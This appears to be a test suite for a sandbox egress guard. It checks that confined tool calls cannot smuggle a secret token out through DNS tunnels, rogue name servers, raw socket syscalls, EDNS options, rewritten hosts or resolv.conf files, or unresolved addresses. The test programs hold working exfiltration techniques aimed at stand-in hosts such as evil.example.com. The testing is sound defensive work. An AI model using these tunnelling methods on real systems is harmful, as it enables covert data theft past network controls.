"""Names as a way out: tunnels through the resolver, name servers of one's own, addresses that no name gave.

Judged from outside: by the log of the host's name server, of a rogue one, and by the sink.
"""

from __future__ import annotations

import contextlib
import os
import secrets
import socket
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from harness import open_up, wait
from names import ROGUE, Names, named

from ray_guard.egress.resolver.told import LOOKUPS

pytestmark = pytest.mark.kernel

RINGS = ("call", "actor", "actor_udp")


@pytest.fixture(scope="module")
def names(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Names]:
    with named(tmp_path_factory.mktemp("names")) as stage:
        yield stage


def rogue(names: Names, token: str) -> bool:
    return any(token.encode() in data for data in names.rogue.raw)


def upstream(names: Names, token: str) -> bool:
    """Whether anything that carries the token has reached the host's own name server, whatever its case."""
    return any(token.encode() in data.lower() for data in names.upstream.raw)


@dataclass(frozen=True)
class Tunnel:
    """A way to carry ``A['token']`` (lower-case hexadecimal) out. ``main`` returns once it was sent.

    Args:
        arrived: whether it got there.
        rings: where it applies.
    """

    name: str
    program: str
    arrived: Callable[[Names, str], bool]
    rings: tuple[str, ...] = RINGS


TUNNELS = [
    Tunnel("datagram to a name server of one's own", "def main(): datagram(A['rogue'], query(TOKEN))", rogue),
    Tunnel("unconnected datagram to one", "def main(): datagram(A['rogue'], query(TOKEN), connected=False)", rogue),
    Tunnel("stream to one", "def main(): stream(A['rogue'], query(TOKEN))", rogue),
    Tunnel("IPv4-mapped", "def main(): datagram('::ffff:' + A['rogue'], query(TOKEN), AF_INET6)", rogue),
    Tunnel("no DNS at all, to port 53", "def main(): datagram(A['rogue'], TOKEN)", rogue),
    Tunnel("no DNS at all, by stream", "def main(): stream(A['rogue'], TOKEN)", rogue),
    Tunnel("no DNS at all, to the host's own", "def main(): datagram(A['upstream'], TOKEN)", upstream),
    Tunnel(
        "sendmsg to one",
        """
def main():
    with socket.socket(AF_INET, DGRAM) as sock:
        sock.sendmsg([query(TOKEN)], [], 0, (A['rogue'], 53))
        time.sleep(0.1)
""",
        rogue,
    ),
    Tunnel(
        "sendmmsg to one, behind an allowed question",
        """
def main():
    with socket.socket(AF_INET, DGRAM) as sock:
        there = sockaddr(A['rogue'], 53)
        both = (query('index.example.org'), query(TOKEN))
        entries = (MMsgHdr * 2)(*[MMsgHdr(message(data, there), 0) for data in both])
        call(307, sock.fileno(), ctypes.byref(entries), 2, 0)
        time.sleep(0.1)
""",
        rogue,
    ),
    Tunnel(
        "connected, then sent to another",
        """
def main():
    with socket.socket(AF_INET, DGRAM) as sock:
        sock.connect((A['upstream'], 53))
        sock.send(query('index.example.org'))
        sock.sendto(query(TOKEN), (A['rogue'], 53))
        sock.sendmsg([query(TOKEN)], [], 0, (A['rogue'], 53))
        time.sleep(0.1)
""",
        rogue,
    ),
    Tunnel(
        "a query that begins with MSG_FASTOPEN",
        """
def main():
    with socket.socket() as sock:
        message = query(TOKEN)
        sock.sendto(struct.pack(">H", len(message)) + message, 0x20000000, (A['rogue'], 53))
        time.sleep(0.1)
""",
        rogue,
    ),
    Tunnel(
        "a name that is not listed",
        "def main(): datagram(A['upstream'], query(TOKEN + b'.evil.example.com'))",
        upstream,
    ),
    Tunnel("by stream", "def main(): stream(A['upstream'], query(TOKEN + b'.evil.example.com'))", upstream),
    Tunnel(
        "by getaddrinfo",
        """
def main():
    try: socket.getaddrinfo(A['token'] + '.evil.example.com', 80)
    except socket.gaierror: pass
""",
        upstream,
    ),
    Tunnel(
        "behind a NUL",
        """
def main():
    datagram(A['upstream'], query('', raw=bytes([len(TOKEN) + 18]) + TOKEN + b'.evil.com\\0.example\\x03org\\0'))
""",
        upstream,
    ),
    Tunnel(
        "a dot within a label",
        "def main(): datagram(A['upstream'], query('', raw=bytes([len(TOKEN) + 8]) + TOKEN + b'.example\\x03org\\0'))",
        upstream,
    ),
    Tunnel(
        "bytes that are no letters",
        "def main(): datagram(A['upstream'], query(TOKEN + b'_.example.org'))",
        upstream,
    ),
    Tunnel(
        "what ends like a listed name but is none",
        "def main(): datagram(A['upstream'], query(TOKEN + b'example.org'))",
        upstream,
    ),
    Tunnel(
        "two questions",
        """
def main():
    one, two = query('index.example.org'), query(TOKEN + b'.evil.example.com')
    message = one[:4] + b'\\0\\2' + one[6:] + two[12:]
    for send in (datagram, stream):
        try: send(A['upstream'], message)
        except OSError: pass
""",
        upstream,
    ),
    Tunnel(
        "an EDNS option",
        """
def main():
    option = struct.pack('>HH', 65001, len(TOKEN)) + TOKEN
    opt = b'\\0' + struct.pack('>HHIH', 41, 1232, 0, len(option)) + option
    plain = query('index.example.org')
    datagram(A['upstream'], plain[:10] + b'\\0\\1' + plain[12:] + opt)
""",
        upstream,
    ),
    Tunnel(
        "a record beside the question",
        """
def main():
    plain = query('index.example.org')
    record = labels(TOKEN) + struct.pack('>HHIH', 16, 1, 0, 0)
    datagram(A['upstream'], plain[:10] + b'\\0\\1' + plain[12:] + record)
""",
        upstream,
    ),
    Tunnel(
        "what follows the question", "def main(): datagram(A['upstream'], query('index.example.org') + TOKEN)", upstream
    ),
    Tunnel(
        "a reverse look-up",
        "def main(): datagram(A['upstream'], query(b'.'.join(TOKEN[i:i+1] for i in range(16)) + b'.ip6.arpa', 12))",
        lambda names, token: any(".".join(token) + ".ip6.arpa" in name for _, name, _ in names.upstream.log),
    ),
]


@pytest.mark.parametrize(
    ("tunnel", "ring"),
    [pytest.param(tunnel, ring, id=f"{tunnel.name}-{ring}") for tunnel in TUNNELS for ring in tunnel.rings],
)
def test_no_tunnel(names: Names, tunnel: Tunnel, ring: str) -> None:
    if tunnel.name not in _worked:
        token = secrets.token_hex(8)
        outcome = names.run("unconfined", tunnel.program, token=token, patience=0.2)
        wait(lambda: tunnel.arrived(names, token), f"the attack does not even work: {outcome.said or outcome.stderr}")
        _worked.add(tunnel.name)
    token = secrets.token_hex(8)
    names.rogue.raw.clear()
    outcome = names.run(ring, tunnel.program, token=token)
    assert not tunnel.arrived(names, token), f"ESCAPED: {outcome.said or outcome.stderr}"
    assert names.rogue.raw == [], f"ESCAPED: {outcome.said or outcome.stderr}"
    assert outcome.seconds < 5


_worked: set[str] = set()


def _sent_ids(names: Names) -> set[bytes]:
    return {data[:2] for data in names.upstream.raw}


ONE = "def main(): return told(datagram(A['upstream'], query('index.example.org')))"


def test_what_is_asked_upstream_is_the_guards_own_question(names: Names) -> None:
    """Neither the query's number, its flags, nor the case of its letters, which could each carry something."""
    program = """
def main():
    for n in range(1, 9):
        datagram(A['upstream'], query('cAsE%d.eXamPle.oRg' % n, number=0xBEEF))
"""
    names.upstream.raw.clear()
    names.run("unconfined", program)
    assert _sent_ids(names) == {b"\xbe\xef"}
    assert upstream(names, "case1")
    assert not any(b"case1" in data for data in names.upstream.raw)
    names.upstream.raw.clear()
    names.upstream.log.clear()
    names.run("call", program)
    assert [name for _, name, _ in names.upstream.log] == [f"case{n}.example.org" for n in range(1, 9)]
    assert len(_sent_ids(names)) > 1


def test_other_types_are_never_asked_for(names: Names) -> None:
    program = """
def main():
    for kind in (2, 5, 6, 10, 12, 15, 16, 33, 43, 48, 64, 65, 255, 256, 65280):
        datagram(A['upstream'], query('index.example.org', kind))
"""
    names.upstream.log.clear()
    names.run("unconfined", program)
    assert {kind for _, _, kind in names.upstream.log} >= {"TXT", "NULL", "HTTPS", "ANY", "TYPE65280"}
    names.upstream.log.clear()
    names.run("call", program)
    assert names.upstream.log == []


def test_names_below_a_wildcard_are_counted(names: Names) -> None:
    """They can carry what they like: so few."""
    program = f"""
def main():
    with socket.socket(AF_INET, DGRAM) as sock:
        sock.settimeout(3)
        sock.connect((A['upstream'], 53))
        codes = {{}}
        for n in range({LOOKUPS + 200}):
            sock.send(query('%s-%d.example.org' % (A['token'], n)))
            code = sock.recv(4096)[3] & 15
            codes[code] = codes.get(code, 0) + 1
        return codes
"""
    token = secrets.token_hex(4)
    outcome = names.run("unconfined", program, token=token)
    assert outcome.said["result"] == {"3": LOOKUPS + 200}
    names.upstream.log.clear()
    token = secrets.token_hex(4)
    outcome = names.run("call", program, token=token)
    assert outcome.said["result"] == {"3": LOOKUPS, "5": 200}
    assert len(names.upstream.log) == LOOKUPS
    # and another call has a budget of its own
    assert names.run("call", "def main(): return told(datagram(A['upstream'], query('index.example.org')))").said[
        "result"
    ]


def test_and_so_are_their_bytes(names: Names) -> None:
    program = """
def main():
    codes = []
    with socket.socket(AF_INET, DGRAM) as sock:
        sock.settimeout(3)
        sock.connect((A['upstream'], 53))
        for n in range(400):
            sock.send(query('.'.join([A['token'] * 3 + '%04d' % n] + [A['token'] * 3] * 3) + '.example.org'))
            codes.append(sock.recv(4096)[3] & 15)
    return codes
"""
    token = secrets.token_hex(8)
    assert 5 not in names.run("unconfined", program, token=token).said["result"]
    names.upstream.log.clear()
    codes = names.run("call", program, token=secrets.token_hex(8)).said["result"]
    assert codes[0] == 3
    assert codes[-1] == 5
    assert sum(len(name) for _, name, _ in names.upstream.log) <= 64 << 10


# ---------------------------------------------------------------------------------------------------------------------
# addresses

CONNECT = "def main(): return socket.create_connection((A['host'], A['port']), 5).recv(9).decode()"


@pytest.mark.parametrize("ring", RINGS)
@pytest.mark.parametrize(
    "host", ["127.0.0.6", "evil.example.com", "127.0.0.10", "hosted.example.com", "0x7f000006", "2130706438"]
)
def test_an_address_that_no_name_gave(names: Names, host: str, ring: str) -> None:
    assert names.run("unconfined", CONNECT, host=host).said["result"] == "hello"
    accepted = names.sink.accepted
    outcome = names.run(ring, CONNECT, host=host)
    assert names.sink.accepted == accepted, f"ESCAPED: {outcome}"
    assert outcome.said["errno"] in ("EACCES", "-2")


def test_an_address_that_a_name_gave_to_another_call(names: Names) -> None:
    assert names.run("call", CONNECT, host="four.example.org").said["result"] == "hello"
    accepted = names.sink.accepted
    outcome = names.run("call", CONNECT, host="127.0.0.4")
    assert names.sink.accepted == accepted, "ESCAPED"
    assert outcome.said["errno"] == "EACCES"


def test_an_address_that_a_name_gave_is_for_its_port_and_tcp_alone(names: Names) -> None:
    with contextlib.ExitStack() as stack:
        other = stack.enter_context(socket.create_server(("127.0.0.1", 0)))
        other.settimeout(0.2)
        datagrams = stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        datagrams.bind(("127.0.0.1", names.sink.port))
        datagrams.settimeout(0.2)
        program = f"""
def main():
    socket.getaddrinfo('both.example.org', A['port'])
    tried = []
    def attempt(act):
        try: tried.append(str(act()))
        except OSError as error: tried.append(errno.errorcode.get(error.errno))
    attempt(lambda: socket.create_connection(('127.0.0.1', {other.getsockname()[1]}), 3))
    for connected in (False, True):
        sock = socket.socket(AF_INET, DGRAM)
        if connected: sock.connect(('127.0.0.1', A['port']))
        attempt(lambda: sock.send(TOKEN))
        attempt(lambda: sock.sendto(TOKEN, ('127.0.0.1', A['port'])))
        attempt(lambda: sock.sendmsg([TOKEN], [], 0, ('127.0.0.1', A['port'])))
        call(42, sock.fileno(), struct.pack('=H14x', 0), 16)
        attempt(lambda: sock.sendto(TOKEN, ('127.0.0.1', A['port'])))
    return tried
"""
        names.run("unconfined", program)
        assert datagrams.recv(99) == b"t"
        other.accept()[0].close()
        with contextlib.suppress(TimeoutError):
            while datagrams.recv(99):
                pass
        for ring in RINGS:
            outcome = names.run(ring, program)
            for sink in (datagrams, other):
                with pytest.raises(TimeoutError):
                    sink.recv(99) if sink is datagrams else sink.accept()
            assert not {"None", "1"} & set(outcome.said["result"]), outcome


@pytest.mark.parametrize("ring", RINGS)
def test_the_hosts_file_rewritten(names: Names, ring: str) -> None:
    path = names.folder / "hosts"
    path.chmod(0o666)  # the attacker need not be root
    before = path.read_text()
    program = """
def main():
    with open('/etc/hosts', 'a') as file: file.write('127.0.0.6 mine.example.org\\n')
    return socket.create_connection(('mine.example.org', A['port']), 5).recv(9).decode()
"""
    try:
        assert names.run("unconfined", program).said["result"] == "hello"
        path.write_text(before)
        accepted = names.sink.accepted
        outcome = names.run(ring, program)
        assert names.sink.accepted == accepted, f"ESCAPED: {outcome}"
        assert outcome.said["errno"] in ("EACCES", "EPERM")
    finally:
        path.write_text(before)


@pytest.mark.parametrize("ring", RINGS)
def test_resolv_conf_rewritten(names: Names, ring: str) -> None:
    path = names.folder / "resolv.conf"
    path.chmod(0o666)
    before = path.read_text()
    program = f"""
def main():
    with open('/etc/resolv.conf', 'w') as file: file.write('nameserver {ROGUE}\\n')
    return socket.gethostbyname('index.example.org')
"""
    try:
        assert names.run("unconfined", program).said["result"] == "127.0.0.66"
        path.write_text(before)
        names.rogue.raw.clear()
        outcome = names.run(ring, program)
        assert names.rogue.raw == [], f"ESCAPED: {outcome}"
        assert outcome.said.get("result", "127.0.0.1") == "127.0.0.1"
    finally:
        path.write_text(before)


# ---------------------------------------------------------------------------------------------------------------------
# the resolver itself

DOOR = """
import re
def ports():
    "where the supervisor listens for queries: bound to loopback, by udp"
    found = []
    for line in open('/proc/net/udp').read().splitlines()[1:]:
        address, port = line.split()[1].split(':')
        if address == '0100007F': found.append(int(port, 16))
    return found
def main():
    heard = []
    for port in ports():
        with socket.socket(AF_INET, DGRAM) as sock:
            sock.settimeout(0.3)
            try:
                sock.sendto(query('index.example.org'), ('127.0.0.1', port))
                heard.append(sock.recv(99)[3] & 15)
            except OSError as error:
                heard.append(errno.errorcode.get(error.errno, 'silence'))
    return heard
"""


def test_nobody_else_is_answered_there(names: Names) -> None:
    """Neither who was not led there, nor a tool that is granted every port of loopback."""
    assert names.run("call", "def main(): return told(datagram(A['upstream'], query('index.example.org')))").said[
        "result"
    ]
    heard = names.run("unconfined", DOOR).said["result"]
    assert heard
    assert set(heard) == {"silence"}
    wide = names.another("wide", {"egress": {"allow": ["udp://127.0.0.1:*", "127.0.0.1:*"]}})
    assert set(wide.run("call", names.argv(DOOR)).said["result"]) == {"EACCES"}


def test_a_line_to_the_resolver_sends_nowhere_else(names: Names, tmp_path: Path) -> None:
    """In the actor ring one end of a socketpair stands in the place of the datagram socket."""
    path = str(tmp_path / "sink")
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sink:
        sink.bind(path)
        open_up(tmp_path)
        os.chmod(path, 0o777)
        sink.settimeout(0.2)
        program = f"""
def main():
    with socket.socket(AF_UNIX if A['plain'] else AF_INET, DGRAM) as sock:
        if not A['plain']: sock.connect((A['upstream'], 53))
        raw = struct.pack('=H', AF_UNIX) + {path!r}.encode() + b'\\0'
        header = message(TOKEN, raw)
        return call(46, sock.fileno(), ctypes.byref(header), 0)
"""
        names.run("unconfined", program, plain=True)
        assert sink.recv(99) == b"t"
        names.run("actor", program, plain=False)
        with pytest.raises(TimeoutError):
            sink.recv(99)


def test_a_flood_of_queries_harms_nobody_else(names: Names) -> None:
    host = names.host()
    flood = """
def main():
    end = time.monotonic() + 4
    with socket.socket(AF_INET, DGRAM) as sock:
        sock.connect((A['upstream'], 53))
        sock.setblocking(False)
        socks = []
        while time.monotonic() < end:
            try: sock.send(query('index.example.org'))
            except OSError: pass
            if len(socks) < 500:
                socks.append(socket.socket())
                socks[-1].connect((A['upstream'], 53))
"""
    code = """
import json, threading, time
def run(argv): return ray_guard.run(argv, capture_output=True, text=True)
def one():
    with ray_guard.tool_call('flood', {}): run(flood)
thread = threading.Thread(target=one)
thread.start()
time.sleep(0.5)
took = []
with ray_guard.tool_call('victim', {}):
    for _ in range(5):
        began = time.monotonic()
        said = json.loads(run(ask).stdout.splitlines()[-1])
        took.append([said.get('result'), time.monotonic() - began])
thread.join()
result = took
"""
    took = host.inside(code, flood=names.argv(flood), ask=names.argv(CONNECT, host="index.example.org"))
    assert [said for said, _ in took] == ["hello"] * 5
    assert max(seconds for _, seconds in took) < 3
